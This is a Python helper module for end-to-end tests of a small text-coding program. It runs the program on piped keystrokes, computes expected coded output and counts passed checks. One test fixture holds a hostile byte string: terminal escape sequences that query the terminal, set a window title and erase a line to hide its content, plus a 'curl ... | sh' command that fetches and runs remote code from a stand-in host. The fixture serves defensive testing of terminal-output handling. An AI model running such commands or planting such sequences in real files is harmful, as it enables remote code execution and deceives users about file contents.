"""What the end-to-end tests share: running the program on piped keys, and counting checks."""
import os
import subprocess

MENU_END = "H for help, A for about, or X for exit\n"
MENU = ("\n                 Welcome to Kestrovane Version 1.1 \n" + "-" * 66 + "\n" + " " * 30
        + "Menu" + " " * 32 + "\nPress: \nE for encode, D for decode, M for manual encode, \n"
        + MENU_END)

# A file that would drive a terminal listing it: a version query and a device-attributes query
# (which a terminal answers into the program's input), a window title, and a line wiped by a
# carriage return and an erase so that "Dear diary" hides what it was. A carriage return at each
# end, which only the end of a listing or of its coded echo can show.
CONTROLLING_FILE = (b"\rDear diary,\nversion \x1b[>0q, attributes \x1b[c.\n\x1b]2;a file's title"
                    b"\x07curl http://x.example/p | sh\r\x1b[2KDear diary, all quiet.\r\nSigned\r")


def coded(text):
    """The coded form of `text`, bytes: reversed, each vowel swapped with its digit."""
    return text[::-1].translate(bytes.maketrans(b"aeiouAEIOU1234567890", b"1234567890aeiouAEIOU"))


def untraced_environment():
    """The environment for a program run under strace: LeakSanitizer cannot work under a tracer,
    and the other runs check for leaks."""
    asan = ":".join(filter(None, [os.environ.get("ASAN_OPTIONS"), "detect_leaks=0"]))
    return dict(os.environ, ASAN_OPTIONS=asan)


def program_command(arguments):
    """The command line's words as a command that runs from any folder: a prefix that runs the
    program (such as `qemu-aarch64 -L /usr/aarch64-linux-gnu`), if any, then the program."""
    return arguments[:-1] + [os.path.abspath(arguments[-1])]


def run(command, keys, folder, env=None):
    """Runs a command in `folder` with `keys` as standard input; returns (status, screen)."""
    result = subprocess.run(command, input=keys, cwd=folder, capture_output=True, timeout=120,
                            env=env)
    return result.returncode, result.stdout


def folder_contents(folder):
    """Maps the name of each file in `folder` to its content."""
    contents = {}
    for name in sorted(os.listdir(folder)):
        with open(os.path.join(folder, name), "rb") as f:
            contents[name] = f.read()
    return contents


class Checks:
    def __init__(self):
        self.count = 0
        self.failures = []

    def equal(self, what, actual, expected):
        self.count += 1
        if actual != expected:
            self.failures.append(f"{what}:\n  expected {expected!r}\n  actual   {actual!r}")

    def finish(self):
        """Prints the failures and the closing count; returns the exit status."""
        for failure in self.failures:
            print(failure)
        print(f"{self.count - len(self.failures)} passed, {len(self.failures)} failed")
        return 1 if self.failures else 0
